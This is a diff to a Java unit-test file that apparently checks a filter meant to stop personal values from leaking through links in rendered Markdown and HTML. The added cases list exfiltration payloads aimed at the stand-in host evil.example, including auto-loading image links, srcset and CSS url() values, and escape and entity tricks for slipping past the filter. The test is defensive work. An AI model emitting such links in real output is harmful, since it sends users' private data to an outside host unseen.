@@ -109,6 +109,34 @@ class DestinationsTest {
   }
 
   @Test
+  void noEscapeMovesTheEndOrTheHostOfAnAddress() {
+    for (String pattern :
+        List.of(
+            "![x](https://localhost\\.evil.example/ANN)",
+            "![x](//127.0.0.1\\@evil.example/ANN)",
+            "![x](https://shop.example\\.evil.example/ANN)",
+            "[x](https://MAIL\\@old.example\\.evil.example/)",
+            "![x](https://evil.example/\\)ANN)",
+            "![x](https://evil.example/a(b\\)c)ANN)",
+            "![x](<https://evil.example/\\>ANN>)",
+            "![x][1]\n\n[1]: https://evil.example/\"ANN",
+            "![x][1]\n\n[1]:\nhttps://evil.example/>ANN",
+            "<img srcset=\"a.png 1x, //evil.example/ANN 2x\">",
+            "<img srcset=\"a.png 1x,https://evil.example/>ANN 2x\">",
+            "![x](&sol;&sol;evil.example/ANN)",
+            "![x](/&sol;evil.example/ANN)",
+            "![x](/&bsol;evil.example/ANN)",
+            "<img src=\"/&#47;evil.example/ANN\">",
+            "<img src=\"/&Tab;/evil.example/ANN\">",
+            "<img src=\"htt&NewLine;ps://evil.example/ANN\">",
+            "<img src=\" &#104;ttps://evil.example/ANN\">",
+            "<p style=\"background:url(https\\3a//evil.example/ANN)\">",
+            "<p style='background:url(\"/\\2f evil.example/ANN\")'>")) {
+      assertStays(pattern);
+    }
+  }
+
+  @Test
   void valuesComeBackWhereTheyDoNotLeave() {
     for (String pattern :
         List.of(
@@ -119,6 +147,9 @@ class DestinationsTest {
             "<a href=\"https://evil.example/\">ANN</a>",
             "[write](mailto:MAIL?body=ANN) [call](tel:ANN)",
             "[x](/people/MAIL) a//ANN // ANN",
+            "C:\\2024\\ANN and 3, // ANN, 4,/ANN &lt;ANN&gt; a;/ANN",
+            "{\"note\":\"see https://evil.example/\",\"name\":\"ANN\"}",
+            "(a \\) ANN [x](https://evil.example/\\(a)ANN",
             "postgres://ANN:MAIL@db/x",
             "![x](https://shop.example/ANN?q=MAIL)",
             "![x](https://img.shop.example:8443/ANN)",
